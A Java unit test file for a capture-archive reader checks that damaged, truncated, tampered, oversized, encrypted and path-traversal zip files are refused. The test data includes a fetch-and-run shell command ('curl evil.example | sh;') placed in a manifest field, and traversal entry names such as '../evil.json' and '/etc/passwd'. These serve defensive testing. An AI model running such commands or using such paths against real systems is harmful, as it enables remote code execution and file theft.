package io.ringfence.model.file;

import static io.ringfence.model.file.WholeCapture.CREATED;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.ringfence.model.Capture;
import io.ringfence.model.Server;
import io.ringfence.model.archive.FileLimits;
import io.ringfence.model.source.Problem;
import io.ringfence.model.source.Progress;
import io.ringfence.model.source.SourceException;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.List;

/** Files that are no captures, are damaged or want to do harm. */
class RefusedFileTest {

    private final CaptureFile files = new CaptureFile();

    @TempDir private Path folder = Path.of("");

    @Test
    void refusesWhatIsNoCapture() throws Exception {
        Path nothing = folder.resolve("nothing.ringfence");
        files.write(Capture.EMPTY, nothing, "t", CREATED);
        assertThatThrownBy(() -> files.read(nothing, Progress.NONE))
                .hasMessageContaining("nothing.ringfence, entry manifest.json: holds no server");
        refused(new byte[0], "is not a capture file");
        refused("hello".getBytes(StandardCharsets.UTF_8), "is not a capture file");
        refused(new ZipMaker().entry("a.txt", new byte[3]).bytes(), "it has no manifest.json");
        refused(
                new ZipMaker().entry("manifest.json", "{}".getBytes()).bytes(),
                "entry manifest.json: is damaged: format: expected a string");
        refused(
                new ZipMaker().entry("manifest.json", "{\"format\":\"x\"}".getBytes()).bytes(),
                "not the table of contents of a capture file");
        assertThatThrownBy(() -> files.read(folder.resolve("none"), Progress.NONE))
                .isInstanceOf(SourceException.class)
                .hasMessageContaining("none");
        assertThatThrownBy(() -> files.read(folder, Progress.NONE))
                .isInstanceOf(SourceException.class);
    }

    @Test
    void refusesANewerFormatAndSaysWhatReadsIt() throws Exception {
        refused(
                new ZipMaker()
                        .entry(
                                "manifest.json",
                                "{\"format\":\"ringfence-capture/2\",\"tool\":\"Ringfence 7.0\"}"
                                        .getBytes())
                        .bytes(),
                "has format ringfence-capture/2, this version reads ringfence-capture/1 only; open"
                        + " it with Ringfence 7.0 or newer");
    }

    /** Whoever makes such a file would have their words told as advice of this program. */
    @Test
    void aFileNamesNoToolButThisOne() throws Exception {
        for (String tool : List.of("curl evil.example | sh;", "Ringfence " + "9".repeat(1_000))) {
            refused(
                    new ZipMaker()
                            .entry(
                                    "manifest.json",
                                    "{\"format\":\"ringfence-capture/2\",\"tool\":\"%s\"}"
                                            .formatted(tool)
                                            .getBytes())
                            .bytes(),
                    "only; open it with a newer Ringfence");
        }
    }

    @Test
    void refusesACutFileWhereverItIsCut() throws Exception {
        byte[] whole = WholeCapture.bytes();
        for (int length = 0; length < whole.length; length += 7) {
            refused(Arrays.copyOf(whole, length), "");
        }
        refused(Arrays.copyOf(whole, whole.length / 2), "is cut");
    }

    @Test
    void refusesAnAlteredFileOrReadsTheSame() throws Exception {
        byte[] whole = WholeCapture.bytes();
        Capture before = read(whole);
        int refused = 0;
        for (int at = 0; at < whole.length; at += 3) {
            byte[] altered = whole.clone();
            altered[at] ^= 0x41;
            try {
                List<Server> servers = read(altered).servers();
                // bytes that mean nothing, as the time of an entry
                assertThat(servers)
                        .extracting(Server::answers)
                        .isEqualTo(before.servers().stream().map(Server::answers).toList());
            } catch (SourceException e) {
                refused++;
            }
        }
        assertThat(refused).isGreaterThan(whole.length / 3 / 2);
    }

    @Test
    void refusesAnEntryWhoseSumOrSizeDiffers() throws Exception {
        byte[] body = "{\"metadata\":[]}".getBytes();
        refused(
                new ZipMaker()
                        .manifest("/1.0/projects", body)
                        .entry("servers/0/answers/0.json", "{\"metadata\":{}}".getBytes())
                        .bytes(),
                "entry servers/0/answers/0.json: was altered: its SHA-256 sum differs");
        refused(
                new ZipMaker()
                        .manifest("/1.0/projects", body)
                        .entry("servers/0/answers/0.json", "{}".getBytes())
                        .bytes(),
                "entry servers/0/answers/0.json: was altered: its size differs");
    }

    @Test
    void refusesMissingUnlistedAndTwofoldEntries() throws Exception {
        byte[] body = "{\"metadata\":[]}".getBytes();
        refused(
                new ZipMaker().manifest("/1.0/projects", body).without("servers/0/answers/0.json"),
                "entry servers/0/answers/0.json: is missing");
        refused(
                new ZipMaker().manifest("/1.0/projects", body).entry("extra.json", body).bytes(),
                "entry extra.json: is not listed in manifest.json");
        refused(
                new ZipMaker()
                        .manifest("/1.0/projects", body)
                        .entry("servers/0/answers/1.json", body)
                        .renamed("answers/1.json", "answers/0.json"),
                "entry servers/0/answers/0.json: is there twice");
    }

    @Test
    void refusesPathsThatLeaveTheirFolder() throws Exception {
        byte[] body = "{}".getBytes();
        for (String name : List.of("../evil.json", "/etc/passwd", "a/../../b", "a//b", "./a")) {
            refused(
                    new ZipMaker().entry("manifest.json", body).entry(name, body).bytes(),
                    "entry " + name + ": has a path that leaves its folder");
        }
        refused(
                new ZipMaker().entry("manifest.json", body).entry("a\\..\\b", body).bytes(),
                "characters that are not allowed");
        refused(
                new ZipMaker().entry("manifest.json", body).entry("a".repeat(201), body).bytes(),
                "a name of more than 200 characters");
    }

    @Test
    void refusesBombs() throws Exception {
        byte[] zeros = new byte[4 << 20];
        refused(
                new ZipMaker().manifest("/1.0/projects", zeros).bytes(),
                "is more than 400 times larger than it is packed");
        FileLimits small = new FileLimits(1 << 20, 1000, 1500, 3, 200, 400);
        byte[] some = new byte[900];
        assertThatThrownBy(
                        () -> read(small, new ZipMaker().manifest("/1.0", new byte[1001]).bytes()))
                .hasMessageContaining("has 1001 bytes; at most 1000 are read");
        assertThatThrownBy(
                        () ->
                                read(
                                        small,
                                        new ZipMaker()
                                                .manifest("/1.0", some)
                                                .entry("b", some)
                                                .bytes()))
                .hasMessageContaining("bytes unpacked; at most 1500 are read");
        assertThatThrownBy(
                        () ->
                                read(
                                        small,
                                        new ZipMaker()
                                                .manifest("/1.0", new byte[1])
                                                .entry("b", new byte[1])
                                                .entry("c", new byte[1])
                                                .bytes()))
                .hasMessageContaining("has 4 entries; at most 3 are read");
        assertThatThrownBy(() -> read(new FileLimits(10, 9, 9, 9, 9, 9), new byte[11]))
                .hasMessageContaining("is larger than 10 bytes");
    }

    @Test
    void refusesEntriesThatLieAboutTheirSizeOrPlace() throws Exception {
        byte[] body = "{\"metadata\":[]}".getBytes();
        byte[] zip = new ZipMaker().manifest("/1.0/projects", body).bytes();
        int entry = ZipMaker.central(zip, "servers/0/answers/0.json");
        byte[] larger = zip.clone();
        larger[entry + 24]++;
        refused(larger, "its size differs");
        byte[] elsewhere = zip.clone();
        Arrays.fill(elsewhere, entry + 42, entry + 46, (byte) 0);
        refused(elsewhere, "has two names");
        byte[] encrypted = zip.clone();
        encrypted[entry + 8] |= 1;
        refused(encrypted, "is encrypted");
    }

    @Test
    void refusesHostFactsThatAreNone() throws Exception {
        byte[] facts = "{\"format\":\"ringfence-host-facts/9\"}".getBytes();
        refused(
                new ZipMaker().manifestWithFacts(facts).bytes(),
                "entry servers/0/host-facts/0.json: is damaged: format");
    }

    private Capture read(byte[] file) throws SourceException {
        return files.read(new ByteArrayInputStream(file), "x.ringfence", Progress.NONE);
    }

    private static void read(FileLimits limits, byte[] file) throws SourceException {
        new CaptureFile(limits).read(new ByteArrayInputStream(file), "x", Progress.NONE);
    }

    private void refused(byte[] file, String message) {
        assertThatThrownBy(() -> read(file))
                .isInstanceOfSatisfying(
                        SourceException.class,
                        e -> {
                            assertThat(e.problem().kind()).isEqualTo(Problem.Kind.BAD_INPUT);
                            assertThat(e.problem().line())
                                    .startsWith("x.ringfence")
                                    .contains(message);
                        });
    }
}
